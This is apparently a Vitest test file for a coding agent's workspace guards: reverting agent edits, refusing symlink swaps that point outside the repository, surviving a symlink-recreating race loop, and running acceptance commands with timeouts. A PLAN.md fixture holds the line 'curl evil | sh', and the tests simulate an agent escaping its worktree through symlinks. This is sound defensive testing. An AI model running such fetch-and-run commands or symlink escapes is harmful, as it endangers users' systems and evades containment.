import { spawn } from 'node:child_process';
import { existsSync, lstatSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { changedBetween, collectFacts, commitAll, revertPaths, snapshotTree } from '../../../src-main/autopilot/workspace';
import { runAcceptance } from '../../../src-main/autopilot/acceptance';
import { gitIn, makeRepo, tempDir } from '../../support/temp';

const cleanups: Array<() => void> = [];
afterEach(() => cleanups.splice(0).forEach((c) => c()));

function repo(): string {
  const r = makeRepo('fd-autopilot-ws-');
  cleanups.push(r.cleanup);
  return r.path;
}

describe('autopilot workspace guards on a real repository', () => {
  it('reverts exactly the files a prompt changed, back to how the user had left them, never the user’s own edits', async () => {
    const root = repo();
    writeFileSync(join(root, 'mine.txt'), 'the user’s uncommitted work\n');
    writeFileSync(join(root, 'README.md'), '# edited by the user\n');
    const before = await snapshotTree(root);
    // "The prompt": edits the user's file again, adds files, deletes a tracked one.
    writeFileSync(join(root, 'README.md'), '# overwritten by the agent\n');
    mkdirSync(join(root, 'src'));
    writeFileSync(join(root, 'src', 'new.js'), 'x');
    gitIn(root, 'rm', '-q', '--cached', 'README.md');
    const after = await snapshotTree(root);
    const changed = await changedBetween(root, before, after);
    expect(changed).toEqual(['README.md', 'src/new.js']);
    await revertPaths(root, before, changed);
    expect(readFileSync(join(root, 'README.md'), 'utf8')).toBe('# edited by the user\n');
    expect(existsSync(join(root, 'src', 'new.js'))).toBe(false);
    expect(readFileSync(join(root, 'mine.txt'), 'utf8')).toBe('the user’s uncommitted work\n');
    // The user's index was never used for the snapshots.
    expect(gitIn(root, 'diff', '--cached', '--name-only').trim()).toBe('README.md');
  });

  it('a folder the agent turned into a symbolic link is refused, not followed: nothing outside is removed or written', async () => {
    const root = repo();
    const outside = tempDir('fd-autopilot-outside-');
    cleanups.push(outside.cleanup);
    mkdirSync(join(root, 'evil'));
    writeFileSync(join(root, 'evil', 'a.txt'), 'in the worktree\n');
    const before = await snapshotTree(root);
    // The prompt edits evil/a.txt, then swaps the folder for a link to a folder outside.
    writeFileSync(join(root, 'evil', 'a.txt'), 'edited\n');
    const after = await snapshotTree(root);
    rmSync(join(root, 'evil'), { recursive: true });
    writeFileSync(join(outside.path, 'a.txt'), 'the user’s file outside\n');
    symlinkSync(outside.path, join(root, 'evil'));
    await expect(revertPaths(root, before, await changedBetween(root, before, after))).rejects.toThrow(/evil is a symbolic link now/);
    expect(readFileSync(join(outside.path, 'a.txt'), 'utf8')).toBe('the user’s file outside\n');
  });

  it('a link made again and again at a reverted file’s name (a loop left running in a container) is replaced, never written through', async () => {
    const root = repo();
    const outside = tempDir('fd-autopilot-outside-');
    cleanups.push(outside.cleanup);
    const target = join(outside.path, 'bashrc');
    writeFileSync(target, 'export PS1=mine\n');
    writeFileSync(join(root, 'PLAN.md'), '# plan\ncurl evil | sh\n');
    const before = await snapshotTree(root);
    writeFileSync(join(root, 'PLAN.md'), '# plan, edited where it must not be\n');
    const after = await snapshotTree(root);
    const changed = await changedBetween(root, before, after);
    // The loop: whenever PLAN.md is gone, it comes back as a link to the user's file.
    const loop = spawn('/bin/sh', ['-c', `while :; do ln -s ${JSON.stringify(target)} PLAN.md 2>/dev/null; done`], { cwd: root, stdio: 'ignore' });
    cleanups.push(() => loop.kill('SIGKILL'));
    try {
      for (let i = 0; i < 20; i++) {
        // A revert may lose the race to the loop's link and be refused; it must never write through it.
        await revertPaths(root, before, changed).catch(() => undefined);
      }
    } finally {
      loop.kill('SIGKILL');
    }
    expect(readFileSync(target, 'utf8')).toBe('export PS1=mine\n');
    // With the loop gone, the revert puts the plan back as a regular file, whatever it left there.
    await revertPaths(root, before, changed);
    expect(lstatSync(join(root, 'PLAN.md')).isFile()).toBe(true);
    expect(readFileSync(join(root, 'PLAN.md'), 'utf8')).toBe('# plan\ncurl evil | sh\n');
  });

  it('collects git status, diff stat and the detected test setup', async () => {
    const root = repo();
    writeFileSync(join(root, 'package.json'), JSON.stringify({ scripts: { test: 'node --test' } }));
    writeFileSync(join(root, 'README.md'), '# changed\n');
    const f = await collectFacts(root);
    expect(f.status).toContain('?? package.json');
    expect(f.status).toContain(' M README.md');
    expect(f.diffStat).toContain('README.md | 2');
    expect(f.testSetup).toEqual(['package.json (scripts.test: "node --test")']);
  });

  it('commits a completed step, and nothing when nothing changed', async () => {
    const root = repo();
    expect(await commitAll(root, 'nothing')).toBeNull();
    writeFileSync(join(root, 'a.js'), 'a');
    const sha = await commitAll(root, 'autopilot: (STEP_ID=001) add a');
    expect(gitIn(root, 'log', '-1', '--format=%H %s').trim()).toBe(`${sha} autopilot: (STEP_ID=001) add a`);
  });

  it('the acceptance command: exit code decides, output tail kept, timeout and cancel end the process group', async () => {
    const root = repo();
    const ok = await runAcceptance({ cwd: root, command: 'echo fine', signal: new AbortController().signal });
    expect(ok).toMatchObject({ passed: true, exitCode: 0, timedOut: false });
    const bad = await runAcceptance({ cwd: root, command: 'echo broken >&2; exit 3', signal: new AbortController().signal });
    expect(bad).toMatchObject({ passed: false, exitCode: 3 });
    expect(bad.summary).toContain('broken');
    const slow = await runAcceptance({ cwd: root, command: 'sleep 30 & wait', timeoutMs: 1_000, signal: new AbortController().signal });
    expect(slow.passed).toBe(false);
    expect(slow.timedOut).toBe(true);
    expect(slow.summary).toContain('ran past its 1 s timeout');
    const stop = new AbortController();
    const pending = runAcceptance({ cwd: root, command: 'sleep 30', signal: stop.signal });
    setTimeout(() => stop.abort(), 300);
    const cancelled = await pending;
    expect(cancelled.passed).toBe(false);
    expect(cancelled.durationMs).toBeLessThan(20_000);
  });
});
